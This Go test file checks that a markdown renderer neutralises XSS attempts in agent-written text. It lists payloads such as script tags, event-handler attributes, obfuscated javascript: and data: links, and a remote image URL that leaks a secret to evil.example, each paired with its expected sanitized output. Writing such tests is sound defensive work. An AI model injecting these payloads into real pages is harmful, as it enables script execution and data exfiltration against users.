package markdown_test

import (
	"regexp"
	"testing"
)

// xssCases are agent texts that try to get script onto the page. want, if
// set, is the exact sanitized output.
var xssCases = []struct{ name, src, want string }{
	{"script tag", "<script>alert(1)</script>",
		"<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>\n"},
	{"attribute breakout", `"><img src=x onerror=alert(1)>`,
		"<p>&#34;&gt;&lt;img src=x onerror=alert(1)&gt;</p>\n"},
	{"javascript link", "[x](javascript:alert(1))", "<p>x</p>\n"},
	{"mixed-case javascript link", "[x](JaVaScRiPt:alert(1))", "<p>x</p>\n"},
	{"raw anchor", `<a href="javascript:alert(1)">x</a>`,
		"<p>&lt;a href=&#34;javascript:alert(1)&#34;&gt;x&lt;/a&gt;</p>\n"},
	{"javascript image", "![x](javascript:alert(1))", "<p>x</p>\n"},
	{"iframe", `<iframe src="https://evil.example/"></iframe>`,
		"<pre><code>&lt;iframe src=&#34;https://evil.example/&#34;&gt;&lt;/iframe&gt;</code></pre>\n"},
	{"svg onload", "<svg onload=alert(1)>", "<pre><code>&lt;svg onload=alert(1)&gt;</code></pre>\n"},
	{"onclick in inline html", `Click <b onclick="alert(1)">here</b>`,
		"<p>Click &lt;b onclick=&#34;alert(1)&#34;&gt;here&lt;/b&gt;</p>\n"},
	{"onclick in html block", "<div onclick=\"alert(1)\">\nx\n</div>", ""},
	{"data url link", "[x](data:text/html,<script>alert(1)</script>)", "<p>x</p>\n"},
	{"data url base64 link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "<p>x</p>\n"},
	{"named entities", "&lt;script&gt;alert(1)&lt;/script&gt;",
		"<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"},
	{"numeric entities", "&#60;script&#62;alert(1)&#x3C;/script&#x3E;",
		"<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"},
	{"entity in scheme", "[x](&#106;avascript:alert(1))", "<p>x</p>\n"},
	{"escaped tab in scheme", "[x](java&#9;script:alert(1))", "<p>x</p>\n"},
	{"vbscript link", "[x](vbscript:msgbox(1))", "<p>x</p>\n"},
	{"javascript autolink", "<javascript:alert(1)>", "<p>javascript:alert(1)</p>\n"},
	{"javascript reference", "[x][r]\n\n[r]: javascript:alert(1)", "<p>x</p>\n"},
	{"title breakout", `[x](https://example.com "\" onmouseover=\"alert(1)")`,
		`<p><a href="https://example.com" rel="nofollow noopener noreferrer">x</a></p>` + "\n"},
	{"style block", "<style>body{display:none}</style>", ""},
	{"comment then script", "<!-- c --><script>alert(1)</script>", ""},
	{"form", `<form action="https://evil.example/"><input name=x></form>`, ""},
	{"target blank", `<a href="https://example.com" target="_blank">x</a>`, ""},
	{"relative link", "[x](/console/sessions)", "<p>x</p>\n"},
	{"protocol-relative link", "[x](//evil.example/)", "<p>x</p>\n"},
	{"code span", "`<script>alert(1)</script>`",
		"<p><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></p>\n"},
	{"remote image", "![chart](https://evil.example/leak?secret=1)",
		`<p><a href="https://evil.example/leak?secret=1" rel="nofollow noopener noreferrer">chart</a></p>` + "\n"},
}

// tagsRE finds every tag, values included.
var tagsRE = regexp.MustCompile(`<[^>]*>`)

func TestRenderXSSInert(t *testing.T) {
	for _, c := range xssCases {
		t.Run(c.name, func(t *testing.T) {
			out := mustRender(t, c.src)
			if c.want != "" && out != c.want {
				t.Errorf("Render(%q)\n got %q\nwant %q", c.src, out, c.want)
			}
			if err := inert(out); err != nil {
				t.Errorf("Render(%q) = %q: %v", c.src, out, err)
			}
			for _, tag := range tagsRE.FindAllString(out, -1) {
				if forbiddenRE.MatchString(tag) {
					t.Errorf("Render(%q): tag %q matches %v", c.src, tag, forbiddenRE)
				}
			}
		})
	}
}
